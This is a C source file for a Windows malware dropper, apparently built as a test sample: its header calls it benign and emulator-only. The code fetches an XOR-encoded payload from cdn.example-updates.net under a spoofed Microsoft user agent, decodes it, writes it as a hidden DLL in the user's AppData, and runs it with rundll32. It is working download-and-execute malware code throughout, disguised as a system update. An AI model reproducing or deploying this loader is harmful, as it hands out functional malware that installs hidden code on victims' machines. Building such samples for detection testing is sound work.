/*
 * dropper.c - combo-hollow-beacon: the first stage (benign, emulator-only; see
 * ../../lineage-common/common.h).
 *
 * WinHTTP GET https://cdn.example-updates.net/pkg/svcupd.bin (WinHttpOpen, WinHttpConnect,
 * WinHttpOpenRequest, WinHttpSendRequest, WinHttpReceiveResponse, WinHttpQueryDataAvailable +
 * WinHttpReadData) into a heap block -> 5-byte repeating XOR in place -> a DLL, written to
 * %APPDATA%\Microsoft\Network\svcupd.dll (ExpandEnvironmentStringsA) -> CreateProcessA
 * "rundll32.exe "PATH",Run" and exit without waiting.
 * Exit codes: 0 ok, 1 no marker, 2 network, 3 not a PE, 4 file, 5 start.
 */
#include "common.h"
#include <winhttp.h>

#define MAXBODY 0x20000

void Entry(void)
{
    static const unsigned char key[5] = {0x3a, 0x91, 0x0e, 0xc7, 0x55};
    static char path[MAX_PATH];
    static char cmd[MAX_PATH + 64];
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    HINTERNET hs, hc, hr;
    unsigned char *body;
    DWORD total = 0, avail, got, i, n, written;
    HANDLE f;

    if (!marker_present())
        ExitProcess(1);
    body = (unsigned char *)HeapAlloc(GetProcessHeap(), 0, MAXBODY);
    hs = WinHttpOpen(L"Microsoft-CryptoAPI/10.0", WINHTTP_ACCESS_TYPE_DEFAULT_PROXY, 0, 0, 0);
    hc = hs ? WinHttpConnect(hs, L"cdn.example-updates.net", INTERNET_DEFAULT_HTTPS_PORT, 0) : 0;
    hr = hc ? WinHttpOpenRequest(hc, L"GET", L"/pkg/svcupd.bin", 0, 0, 0, WINHTTP_FLAG_SECURE) : 0;
    if (!body || !hr || !WinHttpSendRequest(hr, 0, 0, 0, 0, 0, 0) || !WinHttpReceiveResponse(hr, 0))
        ExitProcess(2);
    while (WinHttpQueryDataAvailable(hr, &avail) && avail) {
        if (avail > MAXBODY - total)
            avail = MAXBODY - total;
        if (!avail || !WinHttpReadData(hr, body + total, avail, &got) || !got)
            break;
        total += got;
    }
    WinHttpCloseHandle(hr);
    WinHttpCloseHandle(hc);
    WinHttpCloseHandle(hs);
    for (i = 0; i < total; i++)
        body[i] ^= key[i % 5];
    if (total < 0x200 || body[0] != 'M' || body[1] != 'Z')
        ExitProcess(3);
    n = ExpandEnvironmentStringsA("%APPDATA%\\Microsoft\\Network\\svcupd.dll", path, sizeof(path));
    if (n == 0 || n > sizeof(path))
        ExitProcess(4);
    f = CreateFileA(path, GENERIC_WRITE, 0, 0, CREATE_ALWAYS, FILE_ATTRIBUTE_HIDDEN, 0);
    if (f == INVALID_HANDLE_VALUE || !WriteFile(f, body, total, &written, 0))
        ExitProcess(4);
    CloseHandle(f);
    copy_str(cmd, "rundll32.exe \"", sizeof(cmd));
    for (n = 0; cmd[n]; n++)
        ;
    copy_str(cmd + n, path, sizeof(cmd) - n);
    for (; cmd[n]; n++)
        ;
    copy_str(cmd + n, "\",Run", sizeof(cmd) - n);
    for (i = 0; i < sizeof(si); i++)
        ((unsigned char *)&si)[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, 0, 0, 0, &si, &pi))
        ExitProcess(5);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
    ExitProcess(0);
}
